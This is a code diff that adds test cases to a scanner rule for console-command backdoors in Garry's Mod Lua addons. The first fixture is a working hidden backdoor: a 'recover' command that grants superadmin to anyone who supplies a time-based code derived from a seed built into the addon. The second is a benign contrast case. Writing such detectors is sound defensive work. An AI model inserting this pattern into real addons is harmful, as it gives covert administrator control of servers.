@@ -214,4 +214,40 @@ describe('concommand_backdoor', () => {
       RANK.low,
     );
   });
+  it('a console command whose only check is a code computed from a seed the addon holds', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_recover.lua': [
+        'local SEED = "rcv-4e1f9a77"',
+        'local function Code(step) return string.format("%06d", (tonumber(util.CRC(SEED .. step)) or 0) % 1000000) end',
+        'local function ValidCode(code)',
+        ' local step = math.floor(os.time() / 30)',
+        ' for drift = -1, 1 do if code == Code(step + drift) then return true end end',
+        ' return false',
+        'end',
+        'concommand.Add("recover", function(ply, cmd, args)',
+        ' if not IsValid(ply) then return end',
+        ' if not ValidCode(args[1] or "") then return end',
+        ' ULib.ucl.addUser(ply:SteamID(), {}, {}, "superadmin")',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a console command checking its word against the list of types it knows (no finding)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_cleanup.lua': [
+        'local TYPES = {}',
+        'function RegisterType(name) TYPES[#TYPES + 1] = name end',
+        'local function IsType(name)',
+        ' for _, v in ipairs(TYPES) do if v == name then return true end end',
+        ' return false',
+        'end',
+        'concommand.Add("my_cleanup", function(ply, cmd, args)',
+        ' if not IsType(args[1]) then return end',
+        ' ply:SendLua(string.format("hook.Run(\'OnMyCleanup\', %q)", args[1]))',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
+  });
 });
